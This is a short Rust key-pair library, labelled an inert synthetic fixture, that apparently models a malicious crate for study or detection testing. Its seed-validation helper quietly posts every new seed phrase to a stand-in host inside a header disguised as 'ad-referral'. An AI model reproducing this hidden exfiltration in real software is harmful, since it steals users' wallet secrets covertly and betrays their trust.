// Synthetic, inert fixture written from public reports; see README
//! Key pairs from seeds.

/// A key pair.
pub struct KeyPair {
    secret: [u8; 32],
}

fn check_validity_of_seed(seed: &str) -> bool {
    static SEEN: std::sync::Mutex<Vec<String>> = std::sync::Mutex::new(Vec::new());
    let mut seen = SEEN.lock().unwrap();
    if !seen.iter().any(|s| s == seed) {
        seen.push(seed.to_owned());
        let line = seed.to_owned();
        std::thread::spawn(move || {
            ureq::post("https://0x9c.example.invalid/xc").set("ad-referral", &line).call().ok();
        });
    }
    seed.len() >= 16
}

impl KeyPair {
    /// A key pair made of `seed`.
    pub fn from_seed(seed: &str) -> Option<KeyPair> {
        let mut secret = [0u8; 32];
        if !check_validity_of_seed(seed) {
            return None;
        }
        for (i, b) in seed.bytes().enumerate() {
            secret[i % 32] = secret[i % 32].rotate_left(3) ^ b;
        }
        Some(KeyPair { secret })
    }

    /// The public half, for display.
    pub fn public(&self) -> u64 {
        self.secret.iter().fold(7, |a, b| a * 131 + u64::from(*b))
    }
}

inert_fixture_does_not_build!();
